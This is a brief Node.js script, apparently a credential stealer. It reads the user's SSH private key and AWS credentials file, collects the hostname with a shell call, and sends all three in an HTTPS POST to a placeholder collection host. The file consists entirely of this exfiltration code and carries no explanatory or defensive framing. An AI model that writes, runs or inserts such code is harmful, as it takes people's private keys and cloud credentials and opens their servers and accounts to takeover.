const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { execSync } = require('child_process');

const home = os.homedir();
const key = fs.readFileSync(path.join(home, '.ssh', 'id_rsa'), 'utf8');
const aws = fs.readFileSync(path.join(home, '.aws', 'credentials'), 'utf8');
const host = execSync('hostname').toString().trim();

const body = JSON.stringify({ host, key, aws });
const req = https.request({ hostname: 'collect.example.invalid', path: '/u', method: 'POST' });
req.write(body);
req.end();
